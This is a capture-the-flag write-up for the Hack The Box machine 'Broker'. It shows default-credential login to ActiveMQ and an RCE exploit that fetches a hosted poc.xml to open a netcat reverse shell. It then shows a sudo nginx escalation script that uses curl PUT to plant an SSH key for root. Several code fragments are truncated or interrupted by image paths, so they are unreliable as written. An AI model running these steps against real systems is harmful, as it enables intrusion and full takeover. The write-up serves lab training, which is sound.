Broker: Write-Up

This is a Write Up on how to complete the room Broker on Hack The Box.

Note* I used Kali Linux to complete this room. The IP Address for Broker was at the time of this writing.

* Click on images to enlarge.

Let’s begin this room by enumerating Broker with Nmap.

Running the command:
nmap -sT -p- -Pn -v displays several open ports.

nmap -sT -p- -Pn -v
Starting Nmap 7.94 ( ) at 2024-03-18 15:59 EDT
Initiating Parallel DNS resolution of 1 host. at 15:59
Completed Parallel DNS resolution of 1 host. at 15:59, 0.04s elapsed
Initiating Connect Scan at 15:59
Scanning [65535 ports]
Discovered open port 22/tcp on
Discovered open port 80/tcp on
Discovered open port 45567/tcp on
Discovered open port 61614/tcp on
Discovered open port 61616/tcp onDiscovered open port 5672/tcp on
Discovered open port 8161/tcp on
Discovered open port 61613/tcp on
Discovered open port 1883/tcp on
Completed Connect Scan at 16:00, 16.91s elapsed (65535 total ports)
Nmap scan report for
Host is up (0.050s latency).
Not shown: 65526 closed tcp ports (conn-refused)
22/tcp    open  ssh
80/tcp    open  http
1883/tcp  open  mqtt
5672/tcp  open  amqp
8161/tcp  open  patrol-snmp
45567/tcp open  unknown
61613/tcp open  unknown
61614/tcp open  unknown
61616/tcp open  unknown

Starting off, I navigated to port 80 and found a public facing login. Attempting simple default credentials I authenticated usingadmin:admin.

Here I am presented with an ActiveMQ interface. I can now enumerate the application for anything that could help us further the attack.

Enumerating the application I was able to discover the version of ActiveMQ. With this I can search for a public exploit.

It Turns out the version of ActiveMQ is vulnerable to an exploit that allows remote code execution (RCE).

Browsing GitHub I discovered a public exploit written in Go that could help obtain a reverse shell on the system.Link to GitHub Repo

After cloningthis repository into my Kali VM I modified the poc.xml to obtain a shell with a busybox payload.

<?xml version="1.0"encoding="UTF-8" ?>
    <beans xmlns=""
        <bean id="pb" class="java.lang.ProcessBuilder" init-method="start">
            <constructor-arg >

With the edits to the poc.xml we need to host it on a web server. Running the command python3 -m http.server 8000 will setup a basic webserver to host the file. A Netcat listener is also needed. That can be started with nc -lvnp 1337.Using the ActiveMQ-RCE Go program with go run main.go -i -u http://<YOUR IP>:8000/poc.xml. This should successfully capture a shell.

I  upgraded to a TTY shell using python3 -c 'import pty;pty.spawn("/bin/bash")'.

Thenext step is to grab the user.txt flag in /home/activemq/user.txt

As a lower user on the server the next goal will be to exploit a weakness on the system and become root.

Running sudo -l shows a path to become root. The server allows running /usr/sbin/nginx as root with no password.

Looking online for a way to abuse this, I found this GitHub repository.

I modified the script slightly to setup absolute paths to the SSH keys.

echo "[+] Creating configuration..."
cat << EOF > /tmp/nginx_pwn.conf
user root;
worker_processes 4;
pid /tmp/;
events {
        worker_connections 768;
http {
    server {
            listen 1339;
            root /;
            autoindex on;
            dav_methods PUT;echo "[+] Loading configuration..."
sudo nginx -c /tmp/nginx_pwn.conf
echo "[+] Generating SSH Key..."
echo "[+] Display SSH Private Key for copy..."
cat /home/activemq/.ssh/id_rsa
echo "[+] Add key to root user..."
curl -X PUT localhost:1339/root/.ssh/authorized_keys -d "$(cat /home/activemq/.ssh/"
echo "[+] Use the SSH key to get access"

After uploading the to the /tmp directory I added execute permissions with chmod +x.

Next step is to run the exploit script.This creates keys to now SSH into the system as the root user.

Using the keys I was able to SSH into the system as root and obtain the root flag.

That completes the room! Well done! If you found this helpful,please send me a tweet and tell me what you thought! Feedback is always appreciated!